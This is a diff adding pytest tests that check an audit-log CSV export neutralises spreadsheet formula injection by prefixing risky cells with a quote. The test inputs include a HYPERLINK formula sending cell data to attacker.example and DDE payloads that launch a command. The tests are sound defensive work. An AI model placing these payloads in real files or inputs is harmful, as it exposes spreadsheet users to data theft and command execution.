@@ -179,3 +179,50 @@ def test_ops5_a_day_given_as_to_is_included(auditor):
     today = timezone.now().date().isoformat()
     _, body = export(auditor, format="jsonl", **{"from": today, "to": today})
     assert [json.loads(line)["configuration"] for line in body.splitlines()] == ["today"]
+
+
+FORMULA = '=HYPERLINK("https://attacker.example/?d="&A1,"open")'
+
+
+@pytest.mark.parametrize(
+    "note", [FORMULA, "+1+cmd|' /C calc'!A0", "-2+3", "@SUM(1+1)*cmd|' /C calc'!A0"]
+)
+def test_sec12_a_note_that_starts_like_a_formula_opens_as_text(auditor, note):
+    """SEC-12: the note on an answer lands in the auditor's spreadsheet; written with a
+    leading ' it is text there, and the JSON lines export keeps it verbatim."""
+    run_id = parked_run(auditor, "formula")
+    answer(auditor, run_id, "deny", note=note)
+
+    _, body = export(auditor, format="csv", kind="ticket.decided")
+
+    [record] = list(csv.DictReader(io.StringIO(body)))
+    assert record["reason"] == "'" + note
+    _, lines = export(auditor, format="jsonl", kind="ticket.decided")
+    assert json.loads(lines.splitlines()[0])["reason"] == note
+
+
+def test_sec12_every_column_is_guarded_an_actor_named_like_a_formula_too(
+    django_user_model, settings
+):
+    """Usernames may start with @, + or -; so may a configuration's slug."""
+    user = grant(django_user_model.objects.create_user("@SUM+1", password="pw"), "view_audit")
+    grant(user, "approve_run")
+    user.is_staff = True
+    user.save()
+    run_id = parked_run(user, "-formula")
+    answer(user, run_id, "allow")
+
+    _, body = export(user, format="csv", kind="ticket.decided")
+
+    [record] = list(csv.DictReader(io.StringIO(body)))
+    assert record["actor"] == "'@SUM+1"
+    assert record["configuration"] == "'-formula"
+
+
+@pytest.mark.parametrize("start", ["=", "+", "-", "@", "\t", "\r"])
+def test_sec12_each_formula_start_gets_a_leading_quote(start):
+    from agentruns.services.audit import csv_cell
+
+    assert csv_cell(start + "x") == "'" + start + "x"
+    assert csv_cell("x" + start) == "x" + start
+    assert csv_cell(None) == "" and csv_cell(12) == "12"
